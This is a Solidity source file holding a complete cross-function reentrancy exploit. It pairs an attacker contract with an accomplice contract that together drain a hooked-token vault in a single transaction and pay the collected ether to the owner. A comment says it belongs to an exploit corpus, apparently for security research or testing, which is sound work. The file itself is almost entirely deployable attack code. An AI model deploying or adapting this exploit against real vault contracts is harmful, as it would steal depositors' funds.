// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";

interface IHookedEtherLike {
    function deposit() external payable;

    function withdraw(uint256 amount) external;

    function setHook(address implementer) external;

    function approve(address spender, uint256 amount) external returns (bool);

    function transfer(address to, uint256 amount) external returns (bool);

    function balanceOf(address account) external view returns (uint256);
}

interface IHookedEtherVaultLike {
    function deposit(uint256 amount) external;

    function withdraw(uint256 amount) external;

    function transfer(address to, uint256 amount) external returns (bool);

    function balanceOf(address account) external view returns (uint256);
}

/// @title HookVaultAccomplice
/// @notice The second account of the cross-function reentrancy: it
///         withdraws when its master says so and, from the hETH hook, passes
///         its vault balance straight back to the master.
contract HookVaultAccomplice {
    address public immutable master;
    IHookedEtherLike public immutable token;
    IHookedEtherVaultLike public immutable vault;

    error NotMaster();

    constructor(IHookedEtherLike token_, IHookedEtherVaultLike vault_) {
        master = msg.sender;
        token = token_;
        vault = vault_;
        token_.setHook(address(this));
    }

    modifier onlyMaster() {
        if (msg.sender != master) revert NotMaster();
        _;
    }

    function withdrawFromVault(uint256 amount) external onlyMaster {
        vault.withdraw(amount);
    }

    function sweep() external onlyMaster {
        token.transfer(master, token.balanceOf(address(this)));
    }

    function tokensReceived(address, address from, address, uint256 amount) external {
        if (msg.sender != address(token) || from != address(vault)) return;
        // Re-enter the vault through the unguarded function.
        vault.transfer(master, amount);
    }
}

/// @title HookVaultCrossReentrancyAttacker
/// @notice Drains HookedEtherVault in one transaction: the attacker and its
///         accomplice take turns withdrawing the same balance; from the hETH
///         hook the one being paid moves the balance to the other with the
///         vault's unguarded transfer(), so the balance survives every
///         payout. For Warden's exploit corpus only.
contract HookVaultCrossReentrancyAttacker is Ownable {
    IHookedEtherLike public immutable token;
    IHookedEtherVaultLike public immutable vault;
    HookVaultAccomplice public immutable accomplice;

    event Drained(uint256 seed, uint256 rounds, uint256 collected);

    error PayoutFailed();

    constructor(IHookedEtherLike token_, IHookedEtherVaultLike vault_) Ownable(msg.sender) {
        token = token_;
        vault = vault_;
        accomplice = new HookVaultAccomplice(token_, vault_);
        token_.setHook(address(this));
    }

    /// @notice Wraps msg.value, deposits it, and withdraws it round after round.
    function attack() external payable onlyOwner {
        uint256 seed = msg.value;
        token.deposit{value: seed}();
        token.approve(address(vault), seed);
        vault.deposit(seed);
        uint256 rounds;
        bool mine = true; // who holds the balance: this contract or the accomplice
        while (token.balanceOf(address(vault)) >= seed) {
            if (mine) vault.withdraw(seed);
            else accomplice.withdrawFromVault(seed);
            mine = !mine;
            rounds++;
        }
        // Whatever is left (less than one round) is taken plainly.
        uint256 left = token.balanceOf(address(vault));
        if (left > 0) {
            if (mine) vault.withdraw(left);
            else accomplice.withdrawFromVault(left);
        }
        accomplice.sweep();
        uint256 collected = token.balanceOf(address(this));
        token.withdraw(collected);
        emit Drained(seed, rounds, collected);
        (bool ok,) = payable(owner()).call{value: address(this).balance}("");
        if (!ok) revert PayoutFailed();
    }

    function tokensReceived(address, address from, address, uint256 amount) external {
        if (msg.sender != address(token) || from != address(vault)) return;
        vault.transfer(address(accomplice), amount);
    }

    receive() external payable {}
}
